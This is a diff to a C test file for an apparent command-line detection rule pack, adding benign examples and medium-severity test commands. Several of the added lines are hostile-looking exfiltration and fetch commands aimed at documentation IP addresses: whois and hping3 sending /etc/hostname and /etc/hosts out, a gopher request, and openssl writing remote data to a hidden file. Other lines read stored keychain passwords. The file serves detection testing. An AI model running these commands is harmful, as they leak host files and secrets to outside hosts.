@@ -939,7 +939,8 @@ static void test_pack_benign(void **state) {
         "smbclient //fileserver/share -U alice -c 'ls'", "ldapsearch -x -b 'dc=example,dc=com' '(uid=alice)'",
         "rclone ls gdrive:photos", "rclone copy ./dist s3:releases/v1.2",
         "tar czf site.tgz public && curl -T site.tgz https://uploads.example.com/site.tgz",
-        "screencapture -i shot.png && open shot.png",
+        "screencapture -i shot.png && open shot.png", "whois example.com",
+        "openssl s_client -connect example.com:443 > /dev/null", "hping3 -S -p 80 -c 3 example.com",
     };
     int err;
     sigma_rules *rs = sigma_rules_new(&err);
@@ -1109,6 +1110,8 @@ static const char *const pack_medium[] = {
     "showmount -e nfs1.example.lan",
     "ldapsearch -LLL -x -h dc.example.lan -b 'dc=example,dc=lan' '(objectCategory=computer)' dNSHostName",
     "rclone sync ~/Desktop dropbox:desk", "security find-generic-password -w -s wifi",
+    "whois -h 192.0.2.9 -p 4444 \"$(cat /etc/hostname)\"", "hping3 -1 198.51.100.4 -E /etc/hosts -d 1400",
+    "curl gopher://192.0.2.9:70/_hello", "openssl s_client -quiet -connect 192.0.2.9:8443 > /var/tmp/.p",
 };
 
 /* The best level of the pack's hits on a bare command line (-1: none);
